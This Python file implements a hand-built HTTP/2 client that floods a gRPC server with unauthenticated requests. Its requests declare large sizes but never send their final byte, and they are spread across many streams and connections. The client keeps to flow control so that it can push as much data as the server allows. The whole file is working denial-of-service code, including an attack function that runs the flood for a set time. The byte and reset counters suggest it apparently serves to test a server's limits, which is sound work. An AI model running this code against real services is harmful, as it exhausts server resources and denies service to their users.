"""A client that means harm, over HTTP/2 by hand: large requests that never end, on many streams and connections, with no
token. It keeps to flow control, as the server would hang up otherwise, and counts what it was let send.
"""

import selectors
import socket
import struct
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
FRAME = 16384
WINDOW = 65535
SETTINGS_MAX_STREAMS, SETTINGS_INITIAL_WINDOW = 3, 4


def frame(kind, stream, payload, flags=0):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value.encode()


def headers(path):
    """HPACK of a gRPC request, without compression: static names, literal values."""
    return (b"\x83\x86" + b"\x04" + text(path) + b"\x01" + text("localhost")
            + b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers"))


class Connection:
    """`streams` requests of `size` bytes, of which the last byte is never sent."""

    def __init__(self, address, path, streams, size):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.socket.setblocking(False)
        self.path, self.size, self.wanted = path, size, streams
        self.max_streams = streams
        self.inbox, self.outbox = b"", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, b"")
        self.initial, self.window, self.streams = WINDOW, WINDOW, {}
        self.sent = self.cut_off = 0
        self.open = True
        self.settled = False

    def fileno(self):
        return self.socket.fileno()

    def start_streams(self):
        for number in range(min(self.wanted, self.max_streams)):
            stream = 2 * number + 1
            self.outbox += frame(HEADERS, stream, headers(self.path), flags=4)
            prefix = b"\x00" + struct.pack(">I", self.size)
            self.outbox += frame(DATA, stream, prefix)
            self.window -= len(prefix)
            self.streams[stream] = [self.initial - len(prefix), self.size - 1]  # window, bytes still to send

    def fill(self):
        for stream, state in self.streams.items():
            while self.window > 0 and len(self.outbox) < 1 << 20:
                count = min(FRAME, self.window, *state)
                if count <= 0:
                    break
                self.outbox += frame(DATA, stream, bytes(count))
                self.window -= count
                state[0] -= count
                state[1] -= count
                self.sent += count

    def write(self):
        if self.settled:
            self.fill()
        if self.outbox:
            self.outbox = self.outbox[self.socket.send(self.outbox):]

    def read(self):
        got = self.socket.recv(1 << 18)
        if not got:
            raise OSError("the server hung up")
        self.inbox += got
        while len(self.inbox) >= 9:
            size = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + size:
                return
            kind, flags = self.inbox[3], self.inbox[4]
            stream = int.from_bytes(self.inbox[5:9], "big")
            self.take(kind, flags, stream, self.inbox[9:9 + size])
            self.inbox = self.inbox[9 + size:]

    def take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & 1:
            for position in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, position)
                if name == SETTINGS_INITIAL_WINDOW:
                    for state in self.streams.values():
                        state[0] += value - self.initial
                    self.initial = value
                if name == SETTINGS_MAX_STREAMS:
                    self.max_streams = value
            self.outbox += frame(SETTINGS, 0, b"", flags=1)
            if not self.settled:
                self.settled = True
                self.start_streams()
        elif kind == PING and not flags & 1:
            self.outbox += frame(PING, 0, payload, flags=1)
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.streams:
                self.streams[stream][0] += more
        elif kind == RST_STREAM or (kind == HEADERS and flags & 1):
            if self.streams.pop(stream, None):
                self.cut_off += 1
        elif kind == GOAWAY:
            raise OSError("GOAWAY")


def attack(address, path, connections, streams, size, seconds, watch=lambda: None):
    """Sends as much as it is let; calls `watch` all the while. Returns the connections."""
    all_connections = [Connection(address, path, streams, size) for _ in range(connections)]
    selector = selectors.DefaultSelector()
    for connection in all_connections:
        selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
    deadline = time.monotonic() + seconds
    last = time.monotonic()
    while time.monotonic() < deadline and selector.get_map():
        progress = False
        for key, events in selector.select(timeout=0.1):
            connection = key.fileobj
            before = connection.sent
            try:
                if events & selectors.EVENT_READ:
                    connection.read()
                if events & selectors.EVENT_WRITE:
                    connection.write()
            except BlockingIOError:
                pass
            except OSError:
                connection.open = False
                selector.unregister(connection)
            progress = progress or connection.sent > before
        watch()
        if progress:
            last = time.monotonic()
        elif time.monotonic() - last > 2:
            break  # nothing moves any more
        else:
            time.sleep(0.01)
    selector.close()
    return all_connections
